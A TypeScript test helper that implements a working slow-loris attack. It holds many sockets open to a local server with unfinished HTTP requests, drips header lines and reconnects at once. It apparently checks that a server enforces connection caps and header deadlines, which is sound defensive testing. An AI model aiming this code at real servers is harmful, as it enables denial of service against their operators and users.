/**
 * A slow-loris attacker: many sockets that each send the start of a request and then one more header line now
 * and then, never finishing. A socket the server closes (refused at a cap, or cut at the header deadline) is
 * opened again at once, so the pressure stays on for as long as the attack runs.
 */
import { connect } from 'node:net';
import type { Socket } from 'node:net';

/** Options of {@link startSlowLoris}. */
export interface SlowLorisOptions {
  port: number;
  /** Sockets to keep open. */
  sockets: number;
  /** Loopback source addresses to spread them over (e.g. `127.0.0.2`), as from several hosts; one by default. */
  sources?: readonly string[];
  /** How often each socket sends one more header line, in ms. */
  dripMs?: number;
  /** How long a refused socket waits before trying again, in ms (as if it obeyed Retry-After, only sooner). */
  refusedBackoffMs?: number;
}

/** What the attack has seen so far. */
export interface SlowLorisStats {
  /** Sockets connected and not closed right now. */
  open: number;
  /** Connections made in all. */
  connected: number;
  /** Connections the server refused at once with 503 (a connection cap). */
  refused: number;
  /** Connections the server cut after holding them (408 at the header deadline, or closed). */
  cut: number;
}

/** A running attack. */
export interface SlowLoris {
  stats(): SlowLorisStats;
  /** Resolves once `check` holds for the stats, or rejects after `timeoutMs`. */
  until(check: (stats: SlowLorisStats) => boolean, timeoutMs: number): Promise<SlowLorisStats>;
  /** Stops reconnecting and closes every socket. */
  stop(): Promise<void>;
}

/** Starts the attack against `127.0.0.1:port`. */
export function startSlowLoris(options: SlowLorisOptions): SlowLoris {
  const sources = options.sources ?? ['127.0.0.1'];
  const drip = options.dripMs ?? 1_000;
  const backoff = options.refusedBackoffMs ?? 1_000;
  const live = new Set<Socket>();
  const stats = { connected: 0, refused: 0, cut: 0 };
  let stopped = false;
  let line = 0;

  const open = (slot: number) => {
    if (stopped) return;
    const socket = connect({ host: '127.0.0.1', port: options.port, localAddress: sources[slot % sources.length] });
    let answer = '';
    let connected = false;
    socket.setNoDelay(true);
    socket.on('connect', () => {
      connected = true;
      stats.connected++;
      live.add(socket);
      socket.write(`GET /api/v1/meta HTTP/1.1\r\nHost: 127.0.0.1:${options.port}\r\n`);
    });
    socket.on('data', (chunk: Buffer) => {
      answer += chunk.toString('latin1');
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      live.delete(socket);
      const refused = answer.startsWith('HTTP/1.1 503');
      if (connected) {
        if (refused) stats.refused++;
        else stats.cut++;
      }
      // A held socket that was cut comes back at once; a refused one or a failed connect a little later.
      if (!stopped) setTimeout(() => open(slot), connected && !refused ? 0 : backoff).unref();
    });
  };

  for (let slot = 0; slot < options.sockets; slot++) open(slot);
  const timer = setInterval(() => {
    line++;
    for (const socket of live) if (socket.writable) socket.write(`X-Slow-${line}: ${line}\r\n`);
  }, drip);
  timer.unref();

  const snapshot = (): SlowLorisStats => ({ open: live.size, ...stats });
  return {
    stats: snapshot,
    async until(check, timeoutMs) {
      const deadline = Date.now() + timeoutMs;
      for (;;) {
        const now = snapshot();
        if (check(now)) return now;
        if (Date.now() > deadline) throw new Error(`slow-loris: condition not reached, stats ${JSON.stringify(now)}`);
        await new Promise((done) => setTimeout(done, 50));
      }
    },
    async stop() {
      stopped = true;
      clearInterval(timer);
      const closing = [...live].map((socket) => new Promise<void>((done) => {
        socket.once('close', () => done());
        socket.destroy();
      }));
      await Promise.all(closing);
    },
  };
}
